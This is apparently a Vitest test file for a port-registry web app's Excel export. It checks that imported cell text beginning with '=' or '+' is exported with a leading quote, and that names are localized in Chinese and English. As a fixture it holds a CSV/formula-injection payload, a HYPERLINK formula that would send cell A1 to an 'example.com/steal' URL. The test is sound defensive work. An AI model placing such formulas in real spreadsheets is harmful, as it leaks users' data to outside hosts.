import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { PORT_IMPORT_COLUMNS, type ImportReport } from '../../../../contracts/index.ts';
import { createTestApp, dbAvailable, login, type TestApp } from '../../../test/helpers.ts';
import { createWorld, uniqueCode, type World } from '../../../test/factories.ts';
import { postUpload, xlsxUpload } from '../../../test/xlsx-upload.ts';

describe.skipIf(!dbAvailable)('ports.export', () => {
  let t: TestApp;
  let w: World;
  beforeEach(async () => {
    t = await createTestApp({ seed: false });
    w = await createWorld(t);
  });
  afterEach(async () => t.close());

  it('exports text that would read as a formula with a leading quote, and numbers as numbers', async () => {
    const officer = await login(t, w.accounts.branchOfficer);
    const code = uniqueCode('T-FORMULA');
    const formula = '=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")';
    const port = [
      code,
      w.branch.code,
      '+口岸',
      formula,
      'sea',
      'II',
      '440000',
      '440300',
      22.5,
      113.9,
      'planned',
      null,
    ];
    // Imported, so the names reach the database exactly as a spreadsheet gave them.
    const imported = await postUpload(
      officer,
      '/api/v1/ports/import',
      await xlsxUpload(PORT_IMPORT_COLUMNS, [port]),
    );
    expect(imported.json<ImportReport>()).toEqual({ applied: 1, problems: [] });
    const res = await officer.get(`/api/v1/ports/export?q=${code}`);
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(res.rawPayload).buffer);
    const sheet = book.worksheets[0];
    expect(sheet?.actualRowCount).toBe(2);
    const exported = sheet?.getRow(2);
    expect(exported?.getCell(1).value).toBe(code);
    expect(exported?.getCell(2).value).toBe("'+口岸");
    expect(exported?.getCell(3).value).toBe(`'${formula}`);
    expect(exported?.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(exported?.getCell(13).value).toBe(22.5);
    // Names in the cells, each code beside its name.
    const branch = await t.ctx.db
      .selectFrom('orgUnits')
      .select(['nameZh', 'nameEn'])
      .where('id', '=', w.branch.id)
      .executeTakeFirstOrThrow();
    expect(exported?.getCell(4).value).toBe(branch.nameZh);
    expect(exported?.getCell(5).value).toBe(w.branch.code);
    // Imported without a kind, a sea port is a water transport workplace.
    expect(exported?.getCell(6).value).toBe('监管作业场所·水路运输类');
    expect([exported?.getCell(9).value, exported?.getCell(10).value]).toEqual(['广东省', '440000']);
    expect([exported?.getCell(11).value, exported?.getCell(12).value]).toEqual([
      '深圳市',
      '440300',
    ]);

    const english = await officer.get(`/api/v1/ports/export?q=${code}`, {
      'accept-language': 'en',
    });
    const book2 = new ExcelJS.Workbook();
    await book2.xlsx.load(new Uint8Array(english.rawPayload).buffer);
    const row = book2.worksheets[0]?.getRow(2);
    expect([row?.getCell(9).value, row?.getCell(11).value]).toEqual(['Guangdong', 'Shenzhen']);
    expect(row?.getCell(6).value).toBe('Supervision workplace – Water transport');
    expect(row?.getCell(4).value).toBe(branch.nameEn);
  });
});
